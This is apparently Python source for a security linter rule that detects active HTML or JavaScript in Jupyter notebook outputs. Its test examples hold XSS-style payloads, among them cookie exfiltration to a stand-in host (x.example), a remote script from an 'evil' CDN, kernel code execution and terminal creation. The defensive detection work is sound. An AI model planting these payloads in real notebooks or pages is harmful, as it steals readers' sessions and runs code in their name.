"""MLW706: HTML or JavaScript that acts, in a saved output or about to be shown in one."""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import TYPE_CHECKING

from mlwarden.model.fixes import Applicability, TextEdit
from mlwarden.notebooks.notebook import Cell, Notebook, Output
from mlwarden.rules.base import Bad, Confidence, Finding, Fix, Good, Missed, Reference, Rule, Severity
from mlwarden.rules.examples import Examples, later

if TYPE_CHECKING:
    from mlwarden.notebooks.active_html import Active
    from mlwarden.semantics.calls import CallSite
    from mlwarden.semantics.model import SemanticModel
    from mlwarden.source.documents import Document

# Call -> (position, keyword) of what is shown.
_SHOWN: dict[str, tuple[int, str]] = {
    f"{module}.{name}": (0, "data")
    for module in ("IPython.display", "IPython.core.display", "IPython.core.display_functions")
    for name in ("HTML", "Javascript")
}
_SOURCES = {
    "network": "data from the network",
    "request": "data from a web request",
    "retrieval": "a retrieved document",
}


class ActiveContentInOutput(Rule):
    """JavaScript, or HTML that acts, in a notebook's output.

    ## Why is this bad?

    Whoever opens a trusted notebook, or a viewer that trusts all of them, runs what its outputs hold: JavaScript there
    acts as the reader, with the reader's kernel, files and terminals. Buttons with `data-commandlinker` attributes run
    commands of JupyterLab at one click. A script loaded from a server is whatever the server sends that day.

    ## How to fix

    Clear the output, and run the cell yourself if you trust its source. Show data of others as text, or escape it
    with `html.escape` before it goes into `HTML(...)`.

    ## When it is fine

    For output that you made yourself with code that you know. The drawings of common libraries (Plotly, Bokeh, Altair,
    widgets, Colab's tables, matplotlib's animations, SHAP, scikit-learn and others) are not reported.

    ## Limits

    A library's drawing is known by names in it, so that an attacker can write one: only code that reaches for the
    Jupyter server, or that hides itself, is reported there too. Frames of other sites, such as videos, are not
    reported: they cannot reach the notebook. What a model wrote is left to the rules on model output.

    ## Fix safety

    Safe: outputs are no part of the program, and running the cell brings them back.
    """

    code = "MLW706"
    name = "active-content-in-output"
    severity = Severity.MEDIUM
    calls = tuple(_SHOWN)
    triggers = (
        ("output_type", "<script"),
        ("output_type", "<SCRIPT"),
        ("output_type", "javascript"),
        ("output_type", "commandlinker"),
        ("output_type", "text/html", "on"),
        ("IPython", "HTML"),
        ("IPython", "Javascript"),
    )
    cwe = (79, 829)
    owasp_llm = ("LLM05",)
    atlas = ("AML.T0077", "AML.T0011")
    references = (
        Reference(
            "Jupyter: security in notebook documents", "https://jupyter-notebook.readthedocs.io/en/stable/security.html"
        ),
        Reference(
            "JupyterLab: command linker",
            "https://jupyterlab.readthedocs.io/en/stable/api/classes/apputils.CommandLinker.html",
        ),
    )
    examples = later(lambda: _examples())

    def check_document(self, document: Document) -> Iterator[Finding]:
        """Report each cell once, at the worst that its outputs hold."""
        if not isinstance(document, Notebook) or not document.text:
            return
        for cell in document.cells:
            if cell.outputs:
                yield from self._in_cell(document, cell)

    def check_call(self, call: CallSite, model: SemanticModel) -> Iterator[Finding]:
        """Report data of others that is shown as HTML or run as JavaScript."""
        position, keyword = _SHOWN[call.name]
        taints = call.argument(keyword, position).tainted_by(*_SOURCES)
        if not taints:
            return
        name = call.name.rpartition(".")[2]
        yield self.finding(
            call.span,
            f"`{name}` shows {_SOURCES[taints[0].kind]} as it came: a script in it runs in the notebook's page",
            confidence=Confidence.HIGH if taints[0].certain else Confidence.MEDIUM,
            trace=(*taints[0].steps, *(step for step in call.context if step not in taints[0].steps)),
        )

    def _in_cell(self, notebook: Notebook, cell: Cell) -> Iterator[Finding]:
        from mlwarden.notebooks.active_html import Kind, active_parts
        from mlwarden.notebooks.mapping import locate_output

        found: list[tuple[Output, Active]] = [
            (output, part) for output in cell.outputs for part in active_parts(output.mime, output.text)
        ]
        if not found:
            return
        output, worst = max(found, key=lambda each: each[1].kind)
        severity = Severity.HIGH if worst.kind is Kind.REACHING else Severity.MEDIUM
        where = "as soon as it is shown as trusted" if "click" not in worst.what else "in the reader's name"
        yield self.finding(
            locate_output(notebook, output, worst.start, worst.end),
            f"this output {worst.what}, {where}",
            severity=severity,
            confidence=Confidence.MEDIUM if worst.kind is Kind.SCRIPT else Confidence.HIGH,
            fixes=(_clear(notebook, cell, [each[0] for each in found]),),
        )


def _clear(notebook: Notebook, cell: Cell, outputs: list[Output]) -> Fix:
    from mlwarden.notebooks.edit import remove_output_edit

    if all(output is outputs[0] for output in outputs):
        return Fix("Clear this output", (remove_output_edit(notebook, cell, outputs[0]),), Applicability.SAFE)
    assert cell.outputs_span is not None
    return Fix("Clear the outputs of this cell", (TextEdit(cell.outputs_span, "[]"),), Applicability.SAFE)


def _notebook(outputs: str) -> str:
    """A notebook as text, its only cell with the outputs."""
    before = '{\n "cells": [\n  {\n   "cell_type": "code",\n   "execution_count": 1,\n   "id": "first",\n'
    source = '   "source": [\n    "show()"\n   ]\n  }\n ],\n'
    after = ' "metadata": {\n  "language_info": {\n   "name": "python"\n  }\n },\n "nbformat": 4,\n'
    return f'{before}   "metadata": {{}},\n   "outputs": {outputs},\n{source}{after} "nbformat_minor": 5\n}}\n'


def _output(text: str, mime: str = "text/html") -> dict[str, object]:
    return {"data": {mime: text}, "metadata": {}, "output_type": "display_data"}


def _rich(text: str, mime: str = "text/html") -> str:
    return _notebook(json.dumps([_output(text, mime)]))


def _examples() -> Examples:
    empty = _notebook("[]")
    execute = "<script>Jupyter.notebook.kernel.execute('import os')</script>"
    linker = '<button data-commandlinker-command=\\"terminal:create-new\\">Next</button>'.replace("\\", "")
    text = {"name": "stdout", "output_type": "stream", "text": ["done\n"]}
    return (
        Bad(
            _rich(execute),
            path="example.ipynb",
            texts=("Jupyter.notebook.kernel.execute(",),
            severity=Severity.HIGH,
            confidence=Confidence.HIGH,
            message="this output runs code in the kernel, as soon as it is shown as trusted",
            fixed=empty,
        ),
        Bad(
            _rich(linker),
            path="example.ipynb",
            severity=Severity.HIGH,
            message="this output runs a command of JupyterLab when it is clicked, in the reader's name",
            fixed=empty,
        ),
        Bad(
            _rich('<div id="c"></div><script src="https://cdn.evil-charts.io/c.js"></script>'),
            path="example.ipynb",
            texts=('<script src=\\"https://cdn.evil-charts.io/c.js\\">',),
            severity=Severity.MEDIUM,
            confidence=Confidence.HIGH,
            message="this output loads a script from cdn.evil-charts.io, as soon as it is shown as trusted",
            fixed=empty,
        ),
        Bad(
            _rich("<img src=x onerror=alert(1)>"),
            path="example.ipynb",
            texts=("onerror",),
            severity=Severity.MEDIUM,
            confidence=Confidence.MEDIUM,
            fixed=empty,
        ),
        Bad(
            _rich("fetch('https://x.example/?c=' + document.cookie)", "application/javascript"),
            path="example.ipynb",
            severity=Severity.HIGH,
            message="this output reads the page's cookies, as soon as it is shown as trusted",
            fixed=empty,
        ),
        Bad(
            _notebook(json.dumps([text, _output('<a href="javascript:go()">more</a>')])),
            path="example.ipynb",
            message="this output holds a `javascript:` link, as soon as it is shown as trusted",
            fixed=_notebook(json.dumps([text])),
        ),
        Bad(
            _rich('<div class="plotly-graph-div"></div><script>fetch("/api/terminals", {method: "POST"})</script>'),
            path="example.ipynb",
            severity=Severity.HIGH,
            fixed=empty,
        ),
        Bad(
            """
            import requests
            from IPython.display import HTML, display

            page = requests.get("https://example.org/report").text
            display(HTML(page))
                    ^^^^^^^^^^
            """,
            severity=Severity.MEDIUM,
            confidence=Confidence.HIGH,
            message="`HTML` shows data from the network as it came: a script in it runs in the notebook's page",
        ),
        Good(
            _rich('<script>Plotly.newPlot("a", [], {})</script><div onclick="x()"></div>'),
            path="example.ipynb",
            because="Plotly draws so",
        ),
        Good(
            _rich('<div class="bk-root" data-root-id="p1"></div><script>(function(root) { root.Bokeh })</script>'),
            path="example.ipynb",
            because="Bokeh draws so",
        ),
        Good(
            _rich('<div id="altair-viz-1"></div><script>vegaEmbed("#altair-viz-1", spec)</script>'),
            path="example.ipynb",
            because="Altair draws so",
        ),
        Good(
            _rich(
                '<button class="colab-df-convert" onclick="convertToInteractive(1)"></button><script>google.colab.kernel</script>'
            ),
            path="example.ipynb",
            because="it is Colab's table",
        ),
        Good(
            _rich(
                '<style>#T_1 td { color: red }</style><table id="T_1"><tr><td>on = 1</td></tr></table><progress value="3"></progress>'
            ),
            path="example.ipynb",
            because="tables of pandas and tqdm's bars hold no code",
        ),
        Good(
            _rich(
                '<iframe width="560" src="https://www.youtube.com/embed/AhChOFRegn4?rel=0" allowfullscreen></iframe>'
            ),
            path="example.ipynb",
            because="a frame of another site cannot reach the notebook",
        ),
        Good(
            _rich('<script type="application/vnd.jupyter.widget-view+json">{"model_id": "a"}</script>'),
            path="example.ipynb",
            because="it is data, not code",
        ),
        Good(
            _rich("<script>alert(1)</script> onerror=", "text/plain"),
            path="example.ipynb",
            because="text runs nothing",
        ),
        Good(
            """
            import html
            import requests
            from IPython.display import HTML, display

            display(HTML("<b>done</b>"))
            display(HTML(html.escape(requests.get("https://example.org/report").text)))
            """,
            because="the first is a literal, the second is escaped",
        ),
        Missed(
            _rich(
                '<div class="plotly-graph-div"></div><script>new Image().src = "https://x.example/" + location</script>'
            ),
            path="example.ipynb",
            because="what looks like a library's drawing is believed",
        ),
    )
